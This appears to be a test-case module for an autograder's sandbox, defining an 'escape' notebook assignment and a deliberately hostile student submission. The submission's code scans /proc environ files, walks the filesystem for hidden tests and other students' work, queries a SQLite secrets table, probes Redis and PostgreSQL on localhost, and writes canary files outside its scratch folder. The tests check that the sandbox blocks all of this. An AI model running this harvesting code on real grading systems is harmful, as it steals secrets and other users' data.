"""The "escape" assignment: points only for stealing what the sandbox must hide, plus probes that must pass.

Each hidden test asks for a secret the student cannot compute: the grader's environment secret, the hidden test
text on disk, the repository, the site's SQLite database, another student's submission, and replies from a TCP
server, Redis and PostgreSQL on this machine. The attacking submission hunts for each of them (it is even told the
host paths, a stronger attacker than a real one), writes canary files everywhere it can, and records what it saw.
The probe cells (visible tests) must pass: the code ran to the end, as a non-root user with a finite process
limit, saw no site file and reached no socket, and received `--seed` and `--env` as documented.
Placeholders `@@NAME@@` are filled in per run by the test with fresh random tokens.
"""

from __future__ import annotations

from .cases import AttackCase
from .notebooks import Assignment, Cell, locked, md, solution, test

SECRETS = ("ENV_SECRET", "HIDDEN_TOKEN", "REPO_TOKEN", "DB_TOKEN", "OTHER_TOKEN", "NET_TOKEN", "REDIS_TOKEN")

SOLUTION = '''def stolen(kind):
    """Return the secret of the given kind."""
    ### BEGIN SOLUTION
    return {
        "env": "@@ENV_SECRET@@",
        "hidden": "@@HIDDEN_TOKEN@@",
        "repo": "@@REPO_TOKEN@@",
        "db": "@@DB_TOKEN@@",
        "other": "@@OTHER_TOKEN@@",
        "net": "@@NET_TOKEN@@",
        "redis": "@@REDIS_TOKEN@@",
    }[kind]
    ### END SOLUTION


import os
import resource

PROBE = {
    "uid": os.getuid(),
    "euid": os.geteuid(),
    "nproc": resource.getrlimit(resource.RLIMIT_NPROC)[0],
}
ATTACK_LOG = {"read": [], "reachable": [], "done": True}
'''


def _hidden(grade_id: str, kind: str, token: str) -> Cell:
    return test(
        grade_id,
        1,
        f'### BEGIN HIDDEN TESTS\nassert stolen("{kind}") == "@@{token}@@"\n### END HIDDEN TESTS\n',
    )


ASSIGNMENT = Assignment(
    name="escape",
    notebooks={
        "escape": [
            md("# Sandbox\nEach question asks for a secret."),
            locked("setup", "import os\nimport sys\n"),
            solution("answers", SOLUTION),
            _hidden("steal_env", "env", "ENV_SECRET"),
            _hidden("steal_hidden", "hidden", "HIDDEN_TOKEN"),
            _hidden("steal_repo", "repo", "REPO_TOKEN"),
            _hidden("steal_db", "db", "DB_TOKEN"),
            _hidden("steal_other", "other", "OTHER_TOKEN"),
            _hidden("steal_net", "net", "NET_TOKEN"),
            _hidden("steal_redis", "redis", "REDIS_TOKEN"),
            test("probe_ran", 1, 'assert ATTACK_LOG["done"] is True'),
            test(
                "probe_not_root",
                1,
                'assert PROBE["uid"] != 0 and PROBE["euid"] != 0, PROBE\n'
                'assert 0 < PROBE["nproc"] <= 65536, PROBE\n'
                '_status = dict(line.split(":\\t", 1) for line in open("/proc/self/status").read().splitlines()\n'
                '               if ":\\t" in line)\n'
                'assert int(_status["CapEff"], 16) == 0, "capabilities: " + _status["CapEff"]\n'
                'assert _status["NoNewPrivs"].strip() == "1" or int(_status["CapBnd"], 16) == 0, "setuid works"\n',
            ),
            test("probe_nothing_read", 1, 'assert ATTACK_LOG["read"] == [], "; ".join(ATTACK_LOG["read"])'),
            test(
                "probe_no_network",
                1,
                'assert ATTACK_LOG["reachable"] == [], "; ".join(ATTACK_LOG["reachable"])',
            ),
            test(
                "probe_seed_env",
                1,
                'assert os.environ.get("GRADER_SEED") == "@@SEED@@", os.environ.get("GRADER_SEED")\n'
                'assert os.environ.get("COURSE_FLAVOUR") == "@@FLAVOUR@@"\n',
            ),
        ]
    },
    toml="[limits]\ncell_timeout_s = 60\n",
)

STEAL = r"""
import glob
import os
import re
import socket
import sqlite3
import resource
import stat
import sys

PROBE = {"uid": os.getuid(), "euid": os.geteuid(), "nproc": resource.getrlimit(resource.RLIMIT_NPROC)[0]}
ATTACK_LOG = {"read": [], "reachable": [], "written": [], "done": False}
FOUND = {}
PATTERNS = {
    "env": re.compile(rb"GRADER_CANARY_SECRET=([A-Za-z0-9_-]+)"),
    "hidden": re.compile(rb'stolen\(\\?"hidden\\?"\) == \\?"(hidden-[0-9a-f]{32})'),
    "other": re.compile(rb"(othersub-[0-9a-f]{32})"),
    "db": re.compile(rb"(dbrow-[0-9a-f]{32})"),
}
HOST_PATHS = ["@@SOURCE@@", "@@REPO@@", "@@OTHER@@", "@@SUBMITTED@@", "@@SITE@@", "@@TMP_ROOT@@"]
SKIP = ("/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/etc", "/boot", "/snap")


def _scan(blob, where):
    for kind, pattern in PATTERNS.items():
        match = pattern.search(blob)
        if match and kind not in FOUND:
            FOUND[kind] = match.group(1).decode()
            ATTACK_LOG["read"].append(f"{kind}:{where}")


def _read(path, limit=1_000_000):
    try:
        info = os.stat(path)
        if not stat.S_ISREG(info.st_mode) or info.st_size > limit:
            return None
        with open(path, "rb") as fh:
            blob = fh.read()
    except OSError:
        return None
    _scan(blob, path)
    return blob


WALKED = set()
PYTHON_DIRS = {os.path.realpath(p) for p in (sys.prefix, sys.base_prefix, sys.exec_prefix)}


def _walk(root, budget=1500):
    try:
        real = os.path.realpath(root)
    except OSError:
        return
    if real in WALKED or real in PYTHON_DIRS:
        return
    WALKED.add(real)
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [
            d for d in dirnames
            if os.path.join(dirpath, d) not in SKIP
            and os.path.join(dirpath, d) not in PYTHON_DIRS
            and not d.startswith((".venv", "python3", "site-packages", "node_modules", ".git", "__pycache__"))
        ]
        for name in filenames:
            budget -= 1
            if budget < 0:
                return
            _read(os.path.join(dirpath, name))


# 1. the environment: os.environ, /proc/self/environ, every readable /proc/*/environ and cmdline
_scan("\n".join(f"{k}={v}" for k, v in os.environ.items()).encode(), "os.environ")
for _path in ["/proc/self/environ", "/proc/1/environ", f"/proc/{os.getppid()}/environ"] + glob.glob("/proc/*/environ"):
    _blob = _read(_path)
    if _blob:
        _scan(_blob.replace(b"\0", b"\n"), _path)
SEEN_PATHS = []
for _path in glob.glob("/proc/*/cmdline"):
    _blob = _read(_path) or b""
    for _arg in (_blob or b"").split(b"\0"):
        if _arg.startswith(b"/") and os.path.exists(_arg.decode(errors="ignore")):
            SEEN_PATHS.append(_arg.decode(errors="ignore"))

# 2. the hidden tests, the repo, the database, other submissions: exact host paths, then a search
for _path in HOST_PATHS:
    if os.path.isdir(_path):
        ATTACK_LOG["read"].append(f"listed:{_path}")
        _walk(_path)
    elif os.path.isfile(_path):
        _read(_path)
for _path in SEEN_PATHS:
    if os.path.isdir(_path):
        _walk(_path, budget=500)
    else:
        _read(_path)
try:
    with open("@@REPO@@/pyproject.toml", "rb") as _fh:
        import hashlib
        FOUND["repo"] = hashlib.sha256(_fh.read()).hexdigest()[:32]
        ATTACK_LOG["read"].append("repo:pyproject.toml")
except OSError:
    pass
for _db in ["@@SITE@@/db.sqlite3", "@@REPO@@/db.sqlite3", "@@REPO@@/var/db.sqlite3"]:
    try:
        _con = sqlite3.connect(f"file:{_db}?mode=ro", uri=True)
        _tables = [row[0] for row in _con.execute("select name from sqlite_master where type = 'table'")]
        ATTACK_LOG["read"].append(f"db-tables:{_db}:{len(_tables)}")
        for (_token,) in _con.execute("select token from secrets"):
            FOUND["db"] = _token
            ATTACK_LOG["read"].append(f"db:{_db}")
    except sqlite3.Error:
        pass
for _root in ["/", "/tmp", "/var/tmp", "/home", "/root", "/work", "/srv", "/opt", "/mnt", "/media", "/run",
              os.getcwd(), os.path.dirname(os.getcwd()), os.path.dirname(os.path.dirname(os.getcwd()))]:
    if _root == "/":
        for _entry in os.listdir("/"):
            _full = "/" + _entry
            if _full not in SKIP and os.path.isdir(_full) and not os.path.islink(_full):
                _walk(_full)
    else:
        _walk(_root)
for _path in (glob.glob("/proc/*/cwd") + glob.glob("/proc/*/root"))[:100]:
    if not _path.startswith("/proc/self"):
        _walk(_path, budget=300)

# 3. the network: loopback and the host's address; our TCP server, Redis and PostgreSQL
for _host in ["127.0.0.1", "@@HOST_IP@@", "::1", "localhost"]:
    for _port, _kind in ((@@PORT@@, "net"), (6379, "redis"), (5432, "pg")):
        try:
            with socket.create_connection((_host, _port), timeout=2) as _sock:
                ATTACK_LOG["reachable"].append(f"{_host}:{_port}")
                if _kind == "net":
                    FOUND["net"] = _sock.recv(200).decode().strip()
                elif _kind == "redis":
                    _sock.sendall(b"GET @@REDIS_KEY@@\r\n")
                    _reply = _sock.recv(200).split(b"\r\n")
                    if len(_reply) > 1:
                        FOUND["redis"] = _reply[1].decode()
        except OSError:
            pass
for _unix in ["/var/run/postgresql/.s.PGSQL.5432", "/run/redis/redis-server.sock", "@@UNIX_SOCKET@@"]:
    try:
        with socket.socket(socket.AF_UNIX) as _sock:
            _sock.connect(_unix)
            ATTACK_LOG["reachable"].append(_unix)
    except OSError:
        pass

# 4. write canaries everywhere outside the scratch folder
for _target in ["@@REPO@@", "@@SOURCE@@", "@@SUBMISSION@@", "@@SUBMITTED@@", "@@TMP_ROOT@@", "/tmp",
                "/var/tmp", "/dev/shm", "/root", "/work"]:
    try:
        with open(os.path.join(_target, "@@CANARY_FILE@@"), "w") as _fh:
            _fh.write("escaped")
        ATTACK_LOG["written"].append(_target)
    except OSError:
        pass


def stolen(kind):
    if kind == "hidden":  # the hidden tests are in the process now; are they also on disk?
        WALKED.clear()
        for _root in ["/tmp", "/var/tmp", "/dev/shm", os.getcwd(), "/home", "/run"]:
            _walk(_root, budget=1000)
    return FOUND.get(kind, "not found")


ATTACK_LOG["done"] = True
"""

CASES: list[AttackCase] = [
    AttackCase(
        name="escape_honest",
        assignment=ASSIGNMENT,
        vector="control: the instructor's answers and harmless probes get every point",
        answers={"answers": SOLUTION},
        zero=(),
        passed=("*",),
        honest=True,
    ),
    AttackCase(
        name="escape",
        assignment=ASSIGNMENT,
        vector="read env secrets (/proc/*/environ, os.environ), hidden tests on disk, the repo, the SQLite db, "
        "other submissions; connect to loopback, the host address, Redis, PostgreSQL, unix sockets; "
        "write canaries outside the scratch folder; run as root",
        answers={"answers": STEAL},
        zero=(
            "steal_env",
            "steal_hidden",
            "steal_repo",
            "steal_db",
            "steal_other",
            "steal_net",
            "steal_redis",
        ),
        passed=("probe_ran", "probe_not_root", "probe_nothing_read", "probe_no_network", "probe_seed_env"),
    ),
]
